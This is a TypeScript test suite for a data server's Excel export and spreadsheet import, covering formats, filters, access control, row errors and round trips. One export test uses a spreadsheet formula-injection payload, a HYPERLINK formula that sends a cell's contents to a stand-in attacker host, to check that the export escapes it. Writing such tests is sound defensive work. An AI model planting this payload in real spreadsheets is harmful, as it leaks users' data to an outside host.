/**
 * Excel export and spreadsheet import through the real server (interface spec: Excel export,
 * Import; docs/excel.md): the export's columns, formats, filters, sort, related variant and access
 * control, the signed URL of the workbook; imports of .csv and .xlsx files with per-row errors,
 * relations by name and id, create / update / upsert, bad input (unknown class, bad mapping,
 * corrupt file, tampered descriptor), and the round trip export -> import -> export.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { DEMO, DataApi, idOf, startDataServer } from './data-api.js';
import type { Json } from './data-api.js';
import { startServer } from './support/server.js';
import { createAccounts } from './support/accounts.js';
import type { TestAccount } from './support/accounts.js';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

interface Descriptor {
  readonly href: string;
  readonly fileName: string;
  readonly contentType: string;
  readonly size: number;
}

interface ImportStatus {
  readonly id: string;
  readonly state: string;
  readonly processed: number;
  readonly created: number;
  readonly updated: number;
  readonly failed: number;
  readonly errors: { row: number; message: string; errors?: { field: string; message: string }[] }[];
  readonly ignoredColumns: string[];
  readonly error?: { message: string; errors?: { field: string; message: string }[] };
  readonly _links: { self: { href: string } };
}

let api: DataApi;
let accounts: Map<string, TestAccount>;

beforeAll(async () => {
  api = await startDataServer();
  accounts = await createAccounts(api, [
    { name: 'ann', role: 'member', objectId: DEMO.ann },
    { name: 'vera', role: 'viewer', objectId: DEMO.carla },
  ]);
}, 120_000);
afterAll(async () => {
  await api?.server.stop();
});

const key = (name: string) => accounts.get(name)?.key ?? '';

/** `GET /data/{t}/excel/...` -> the signed URL, checked to be the JSON body and `Location`. */
async function exportUrl(route: string, apiKey?: string): Promise<string> {
  const res = await api.call('GET', `/excel/${route}`, { key: apiKey });
  if (res.status !== 200) throw new Error(`export ${route}: ${res.status} ${await res.text()}`);
  const url = (await res.json()) as string;
  expect(res.headers.get('location')).toBe(url);
  expect(url.startsWith(`${api.server.baseUrl}/binaries/`)).toBe(true);
  return url;
}

async function download(url: string): Promise<{ bytes: Buffer; res: Response }> {
  const res = await fetch(url);
  expect(res.status).toBe(200);
  return { bytes: Buffer.from(await res.arrayBuffer()), res };
}

async function workbookOf(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  return workbook;
}

/** A sheet as objects keyed by header (row 1). */
function records(sheet: ExcelJS.Worksheet): Record<string, unknown>[] {
  const header = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
  const rows: Record<string, unknown>[] = [];
  sheet.eachRow((row, number) => {
    if (number === 1) return;
    const values = row.values as unknown[];
    rows.push(Object.fromEntries(header.map((name, i) => [name, values[i + 1] ?? null])));
  });
  return rows;
}

async function exported(route: string, apiKey?: string): Promise<ExcelJS.Workbook> {
  return workbookOf((await download(await exportUrl(route, apiKey))).bytes);
}

async function upload(bytes: Buffer, fileName: string, server: DataApi = api): Promise<Descriptor> {
  const urlRes = await server.call('GET', '/upload');
  const url = (await urlRes.json()) as string;
  const body = new FormData();
  body.append('file', new Blob([bytes]), fileName);
  const res = await fetch(url, { method: 'POST', body });
  expect(res.status).toBe(200);
  return ((await res.json()) as Descriptor[])[0]!;
}

async function startImport(task: Json, apiKey?: string): Promise<Response> {
  return api.call('POST', '/import', { body: task, key: apiKey });
}

async function importStatus(location: string, apiKey?: string, server: DataApi = api): Promise<ImportStatus> {
  const res = await fetch(`${server.server.baseUrl}${location}`, {
    headers: { 'X-API-Key': apiKey ?? server.systemKey },
  });
  expect(res.status).toBe(200);
  return (await res.json()) as ImportStatus;
}

/** Polls the import until `done` holds (by default: it left `running`). */
async function finished(
  location: string,
  apiKey?: string,
  server: DataApi = api,
  done: (status: ImportStatus) => boolean = (status) => status.state !== 'running',
): Promise<ImportStatus> {
  for (let attempt = 0; attempt < 6000; attempt++) {
    const status = await importStatus(location, apiKey, server);
    if (done(status)) return status;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error('the import did not finish');
}

async function runImport(task: Json, apiKey?: string): Promise<ImportStatus> {
  const res = await startImport(task, apiKey);
  if (res.status !== 201) throw new Error(`import: ${res.status} ${await res.text()}`);
  const location = res.headers.get('location') ?? '';
  expect(location).toMatch(new RegExp(`^/data/${api.tenant}/import/[0-9a-f-]{36}$`));
  return finished(location, apiKey);
}

async function problem(res: Response, status: number): Promise<Json> {
  expect(res.status).toBe(status);
  expect(res.headers.get('content-type')).toContain('application/problem+json');
  return (await res.json()) as Json;
}

describe('Excel export', () => {
  test('the class as a workbook: visible fields by label, relation names, typed and formatted cells', async () => {
    const url = await exportUrl('companies');
    const { bytes, res } = await download(url);
    expect(res.headers.get('content-type')).toBe(XLSX);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="companies-.*\.xlsx"/);
    const workbook = await workbookOf(bytes);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['companies']);
    const sheet = workbook.getWorksheet('companies')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header[0]).toBe('id');
    expect(header).toEqual(
      expect.arrayContaining(['Legal name', 'Registration number', 'Legal form', 'revenue', 'employees']),
    );
    // Hidden and SECRET fields are never exported.
    expect(header).not.toContain('displayName');
    expect(header).not.toContain('Customer portal token');
    const rows = records(sheet);
    expect(rows.map((row) => row['Legal name'])).toEqual(['Acme BV', 'Globex NV']);
    const acme = rows[0]!;
    expect(acme['id']).toBe(DEMO.acme);
    expect(acme['Legal form']).toBe('Private limited company');
    expect(acme['foundedOn']).toEqual(new Date('2004-03-01T00:00:00Z'));
    expect(acme['revenue']).toBe(1250000);
    expect(acme['active']).toBe(true);
    expect(acme['employees']).toBe('Ann de Vries\nBob Jansen');
    expect(JSON.parse(String(acme['tags']))).toEqual(['customer', 'manufacturing']);
    const columnOf = (name: string) => header.indexOf(name) + 1;
    expect(sheet.getRow(2).getCell(columnOf('foundedOn')).numFmt).toBe('yyyy-mm-dd');
    expect(sheet.getRow(2).getCell(columnOf('revenue')).numFmt).toBe('#,##0.00');
  });

  test('the list link: the same filters and sort', async () => {
    const page = await api.get<{ _links: { excel: { href: string } } }>(
      '/companies?sort=legalName,desc&size=1',
    );
    const href = page._links.excel.href;
    expect(href).toContain('/excel/companies');
    const res = await fetch(`${api.server.baseUrl}${href}`, { headers: { 'X-API-Key': api.systemKey } });
    expect(res.status).toBe(200);
    const workbook = await workbookOf((await download((await res.json()) as string)).bytes);
    // The whole selection (size is a page size, not a limit of the export), in the list's order.
    expect(records(workbook.worksheets[0]!).map((row) => row['Legal name'])).toEqual([
      'Globex NV',
      'Acme BV',
    ]);
    const filtered = await exported(`companies?legalName=${encodeURIComponent('Acme BV')}`);
    expect(records(filtered.worksheets[0]!).map((row) => row['id'])).toEqual([DEMO.acme]);
  });

  test('the related variant exports the related list', async () => {
    const workbook = await exported(`companies/${DEMO.acme}/employees`);
    const rows = records(workbook.worksheets[0]!);
    expect(workbook.worksheets[0]!.name).toBe('persons');
    expect(rows.map((row) => row['id']).sort()).toEqual([DEMO.ann, DEMO.bob].sort());
    expect(rows.find((row) => row['id'] === DEMO.ann)?.['birthDate']).toEqual(
      new Date('1984-05-12T00:00:00Z'),
    );
  });

  test('only the objects the caller may read', async () => {
    const workbook = await exported('companies', key('ann'));
    expect(records(workbook.worksheets[0]!).map((row) => row['id'])).toEqual([DEMO.acme]);
    // The export of each class holds exactly what the member's list shows.
    for (const plural of ['persons', 'invoices']) {
      const rows = records((await exported(plural, key('ann'))).worksheets[0]!);
      const listed = (await api.rows(`/${plural}?size=1000`, key('ann'))).map(idOf);
      expect(rows.map((row) => row['id'])).toEqual(listed);
    }
    expect((await api.rows('/persons?size=1000', key('ann'))).length).toBeLessThan(
      (await api.rows('/persons?size=1000')).length,
    );
  });

  test('an empty selection still gives a workbook with the header', async () => {
    const workbook = await exported('companies?legalName=nobody');
    expect(workbook.worksheets).toHaveLength(1);
    expect(workbook.worksheets[0]!.rowCount).toBe(1);
  });

  test('bad requests: unknown class 404, q 400, no credential 401', async () => {
    await problem(await api.call('GET', '/excel/nothings'), 404);
    await problem(await api.call('GET', `/excel/companies/${DEMO.acme}/nothings`), 404);
    await problem(await api.call('GET', '/excel/companies?q=acme'), 400);
    expect((await api.call('GET', '/excel/companies', { key: null })).status).toBe(401);
  });

  test('a formula-like text is written with a leading apostrophe and imports back unchanged', async () => {
    const legalName = '=HYPERLINK("https://evil.example/?"&A1,"open")';
    const id = await api.create('companies', { legalName });
    try {
      const route = `companies?legalName=${encodeURIComponent(legalName)}`;
      const [row] = records((await exported(route)).worksheets[0]!);
      expect(row).toMatchObject({ id, 'Legal name': `'${legalName}` });
      const status = await runImport({
        file: await upload((await download(await exportUrl(route))).bytes, 'guarded.xlsx'),
        typeName: 'companies',
        mode: 'update',
      });
      expect(status).toMatchObject({ state: 'completed', updated: 1, failed: 0 });
      expect(await api.get(`/companies/${id}`)).toMatchObject({ legalName });
    } finally {
      expect((await api.call('DELETE', `/companies/${id}`)).status).toBe(200);
    }
  });
});

describe('Import', () => {
  test('a CSV file: rows created, a failing row recorded and never half-written', async () => {
    const csv = [
      'First name;Last name;email;birthDate;phoneNumbers;unknown column',
      'Zoe;Zeeman;zoe@import.example;1990-01-02;"+31 1\n+31 2";x',
      ';Missing;missing@import.example;1991-02-03;;x',
      'Yan;Yilmaz;yan@import.example;not a date;;x',
      'Xu;Xiang;xu@import.example;;;x',
    ].join('\r\n');
    const file = await upload(Buffer.from('\ufeff' + csv), 'people.csv');
    const status = await runImport({ file, typeName: 'persons' });
    expect(status).toMatchObject({ state: 'completed', processed: 4, created: 2, updated: 0, failed: 2 });
    expect(status.ignoredColumns).toEqual(['unknown column']);
    expect(status.errors.map((error) => error.row)).toEqual([3, 4]);
    expect(JSON.stringify(status.errors[0])).toContain('firstName');
    expect(JSON.stringify(status.errors[1])).toContain('birthDate');
    const zoe = await api.rows('/persons?email=zoe@import.example');
    expect(zoe).toHaveLength(1);
    expect(zoe[0]).toMatchObject({
      firstName: 'Zoe',
      birthDate: '1990-01-02',
      phoneNumbers: ['+31 1', '+31 2'],
    });
    expect(await api.rows('/persons?lastName=Missing')).toHaveLength(0);
    expect(await api.rows('/persons?lastName=Yilmaz')).toHaveLength(0);
  });

  test('relations by name and by id; an unknown name fails its row only', async () => {
    const csv = [
      'Invoice number,Amount excl. VAT,client,contact',
      'IMP-1,100,Acme BV,Ann de Vries',
      'IMP-2,200,Nobody Ltd,',
      'IMP-3,300,Globex NV,',
    ].join('\n');
    const status = await runImport({
      file: await upload(Buffer.from(csv), 'invoices.csv'),
      typeName: 'invoices',
    });
    expect(status).toMatchObject({ state: 'completed', created: 2, failed: 1 });
    expect(status.errors[0]).toMatchObject({ row: 3 });
    expect(JSON.stringify(status.errors[0])).toContain('Nobody Ltd');
    const [imp1] = await api.rows('/invoices?invoiceNumber=IMP-1');
    const links = imp1!['_links'] as Record<string, { href: string; name: string }>;
    expect(links['client']?.href).toBe(api.href('companies', DEMO.acme));
    expect(links['contact']?.href).toBe(api.href('persons', DEMO.ann));
    expect(imp1!['amount']).toBe(100);

    const byId = `number,amount,client\nIMP-4,400,${DEMO.globex}\n`;
    const second = await runImport({
      file: await upload(Buffer.from(byId), 'by-id.csv'),
      typeName: 'invoices',
      mapping: { number: 'invoiceNumber', amount: 'amount' },
      relations: { client: 'id' },
    });
    expect(second).toMatchObject({ state: 'completed', created: 1, failed: 0 });
    const [imp4] = await api.rows('/invoices?invoiceNumber=IMP-4');
    expect((imp4!['_links'] as Record<string, { href: string }>)['client']?.href).toBe(
      api.href('companies', DEMO.globex),
    );
  });

  test('update and upsert matched on a field', async () => {
    const csv = 'Invoice number,Amount excl. VAT,client\nIMP-1,150,Acme BV\nIMP-9,900,Acme BV\n';
    const file = await upload(Buffer.from(csv), 'update.csv');
    const update = await runImport({ file, typeName: 'invoices', mode: 'update', matchBy: 'invoiceNumber' });
    expect(update).toMatchObject({ state: 'completed', updated: 1, created: 0, failed: 1 });
    expect(update.errors[0]?.row).toBe(3);
    expect((await api.rows('/invoices?invoiceNumber=IMP-1'))[0]!['amount']).toBe(150);
    const file2 = await upload(Buffer.from(csv), 'upsert.csv');
    const upsert = await runImport({
      file: file2,
      typeName: 'invoices',
      mode: 'upsert',
      matchBy: 'invoiceNumber',
    });
    expect(upsert).toMatchObject({ state: 'completed', updated: 1, created: 1, failed: 0 });
    expect(await api.rows('/invoices?invoiceNumber=IMP-9')).toHaveLength(1);
  });

  test('export -> import -> export round-trips unchanged; an edited cell is applied', async () => {
    for (const plural of ['companies', 'persons', 'invoices']) {
      const first = (await download(await exportUrl(plural))).bytes;
      const status = await runImport({
        file: await upload(first, `${plural}.xlsx`),
        typeName: plural,
        mode: 'update',
      });
      expect(status).toMatchObject({ state: 'completed', failed: 0, ignoredColumns: [] });
      expect(status.updated).toBe(status.processed);
      const again = await exported(plural);
      expect(records(again.worksheets[0]!)).toEqual(records((await workbookOf(first)).worksheets[0]!));
    }

    const workbook = await exported('companies');
    const sheet = workbook.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    sheet.getRow(2).getCell(header.indexOf('employeeCount') + 1).value = 43;
    const edited = Buffer.from(await workbook.xlsx.writeBuffer());
    const status = await runImport({
      file: await upload(edited, 'edited.xlsx'),
      typeName: 'companies',
      mode: 'update',
    });
    expect(status).toMatchObject({ state: 'completed', updated: 2, failed: 0 });
    const acme = await api.get(`/companies/${DEMO.acme}`);
    expect(acme).toMatchObject({ employeeCount: 43, legalName: 'Acme BV', foundedOn: '2004-03-01' });
  }, 300_000);

  test('an exported workbook imports into new objects (create) with the same values', async () => {
    const first = await exported('persons?lastName=de Vries');
    const sheet = first.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    // A new person under another e-mail (unique): the rest of the row as exported.
    sheet.getRow(2).getCell(header.indexOf('email') + 1).value = 'ann.copy@import.example';
    const status = await runImport({
      file: await upload(Buffer.from(await first.xlsx.writeBuffer()), 'copy.xlsx'),
      typeName: 'persons',
    });
    expect(status).toMatchObject({ state: 'completed', created: 1, failed: 0 });
    const [copy] = await api.rows('/persons?email=ann.copy@import.example');
    const [ann] = await api.rows(`/persons?email=ann@acme.example`);
    for (const field of ['firstName', 'lastName', 'birthDate', 'phoneNumbers', 'initials'])
      expect(copy![field]).toEqual(ann![field]);
  });

  test('bad input: unknown class, bad mapping, bad body, tampered descriptor, corrupt file', async () => {
    const file = await upload(Buffer.from('First name,Last name\nA,B\n'), 'ok.csv');
    await problem(await startImport({ file, typeName: 'nothings' }), 404);
    const mapping = await problem(
      await startImport({ file, typeName: 'persons', mapping: { 'First name': 'nope' } }),
      400,
    );
    expect(JSON.stringify(mapping['errors'])).toContain('mapping.First name');
    await problem(await startImport({ file, typeName: 'persons', mapping: { 'First name': 'photo' } }), 400);
    await problem(await startImport({ file, typeName: 'persons', relations: { nope: 'name' } }), 400);
    await problem(await startImport({ file, typeName: 'persons', mode: 'replace' }), 400);
    await problem(
      await startImport({ file, typeName: 'persons', mode: 'update', matchBy: 'phoneNumbers' }),
      400,
    );
    await problem(await startImport({ typeName: 'persons' }), 400);
    await problem(await startImport({ file: { ...file, size: file.size + 1 }, typeName: 'persons' }), 400);
    await problem(
      await startImport({ file: { ...file, href: '/binaries/not-an-id' }, typeName: 'persons' }),
      400,
    );
    await problem(await api.call('POST', '/import', { body: '[1,2]' }), 400);
    const pdf = await upload(Buffer.from('%PDF-1.7\nnot a sheet'), 'doc.pdf');
    await problem(await startImport({ file: pdf, typeName: 'persons' }), 400);
    const corrupt = await upload(Buffer.from('this is not a zip archive at all'), 'broken.xlsx');
    const refused = await problem(await startImport({ file: corrupt, typeName: 'persons' }), 400);
    expect(String(refused['detail'] ?? refused['title'])).toMatch(/xlsx/);
    expect(JSON.stringify(refused)).not.toMatch(/stack|at .*\.ts/);
  });

  test('a truncated workbook or a missing mapped column fails the import before any row', async () => {
    const good = (await download(await exportUrl('persons'))).bytes;
    const truncated = await upload(good.subarray(0, Math.floor(good.length / 2)), 'half.xlsx');
    const broken = await runImport({ file: truncated, typeName: 'persons' });
    expect(broken).toMatchObject({ state: 'failed', processed: 0, created: 0 });
    expect(broken.error?.message).toMatch(/xlsx/);

    const file = await upload(Buffer.from('First name,Last name\nNew,Person\n'), 'missing.csv');
    const missing = await runImport({ file, typeName: 'persons', mapping: { Surname: 'lastName' } });
    expect(missing).toMatchObject({ state: 'failed', processed: 0, created: 0 });
    expect(JSON.stringify(missing.error)).toContain('mapping.Surname');
    expect(await api.rows('/persons?firstName=New')).toHaveLength(0);
  });

  test('roles and ownership: a viewer cannot import; an import is visible to who started it', async () => {
    const file = await upload(Buffer.from('First name,Last name\nVi,Ewer\n'), 'viewer.csv');
    await problem(await startImport({ file, typeName: 'persons' }, key('vera')), 403);
    const res = await startImport({ file, typeName: 'persons' });
    expect(res.status).toBe(201);
    const location = res.headers.get('location') ?? '';
    await finished(location);
    const other = await fetch(`${api.server.baseUrl}${location}`, { headers: { 'X-API-Key': key('ann') } });
    await problem(other, 404);
    await problem(await api.call('GET', '/import/not-a-uuid'), 404);
  });

  test('the access control of the importing account applies to every row', async () => {
    // Ann (member, employee of Acme) reads and writes Acme but cannot see Globex: its row fails.
    const before = await api.get(`/companies/${DEMO.globex}`);
    const csv = `id,employeeCount\n${DEMO.acme},44\n${DEMO.globex},99\n`;
    const file = await upload(Buffer.from(csv), 'ann.csv');
    const status = await runImport({ file, typeName: 'companies', mode: 'update' }, key('ann'));
    expect(status).toMatchObject({ state: 'completed', updated: 1, failed: 1 });
    expect(status.errors[0]?.row).toBe(3);
    expect((await api.get(`/companies/${DEMO.acme}`))['employeeCount']).toBe(44);
    expect(await api.get(`/companies/${DEMO.globex}`)).toEqual(before);
    // Creating at the root is not granted to members by the example model: every row is refused.
    const refused = await runImport(
      { file: await upload(Buffer.from('First name,Last name\nNo,Grant\n'), 'p.csv'), typeName: 'persons' },
      key('ann'),
    );
    expect(refused).toMatchObject({ state: 'completed', created: 0, failed: 1 });
    expect(await api.rows('/persons?lastName=Grant')).toHaveLength(0);
  });
});

describe('Import across a restart of the api', () => {
  const dataDir = mkdtempSync(path.join(os.tmpdir(), 'odp-excel-restart-'));
  afterAll(() => rmSync(dataDir, { recursive: true, force: true }));

  test('a graceful stop records interrupted; an upsert run finishes without duplicates', async () => {
    const first = await startServer({ dataDir });
    const tenant = first.tenantId ?? '';
    const systemKey = first.systemKey ?? '';
    let server = new DataApi(first, tenant, systemKey);
    const rows = 3000;
    const csv = ['First name,Last name,email'];
    for (let i = 0; i < rows; i++) csv.push(`P${i},Restart,restart${i}@import.example`);
    const bytes = Buffer.from(csv.join('\n'));
    try {
      const res = await server.call('POST', '/import', {
        body: { file: await upload(bytes, 'restart.csv', server), typeName: 'persons' },
      });
      expect(res.status).toBe(201);
      const location = res.headers.get('location') ?? '';
      await finished(location, undefined, server, (status) => status.processed >= 20);
      expect(await first.stop()).toBe(0);

      const second = await startServer({ dataDir });
      server = new DataApi(second, tenant, systemKey);
      try {
        const interrupted = await importStatus(location, undefined, server);
        expect(interrupted.state).toBe('interrupted');
        expect(interrupted.processed).toBeGreaterThanOrEqual(20);
        expect(interrupted.processed).toBeLessThan(rows);
        const written = (await server.get<{ total: number }>('/persons/aggregations?lastName=Restart')).total;
        expect(written).toBe(interrupted.created);

        const again = await server.call('POST', '/import', {
          body: {
            file: await upload(bytes, 'restart.csv', server),
            typeName: 'persons',
            mode: 'upsert',
            matchBy: 'email',
          },
        });
        expect(again.status).toBe(201);
        const done = await finished(again.headers.get('location') ?? '', undefined, server);
        expect(done).toMatchObject({ state: 'completed', failed: 0, processed: rows });
        expect(done.updated).toBe(written);
        expect(done.created).toBe(rows - written);
        expect((await server.get<{ total: number }>('/persons/aggregations?lastName=Restart')).total).toBe(
          rows,
        );
      } finally {
        await second.stop();
      }
    } finally {
      await first.stop();
    }
  }, 600_000);
});
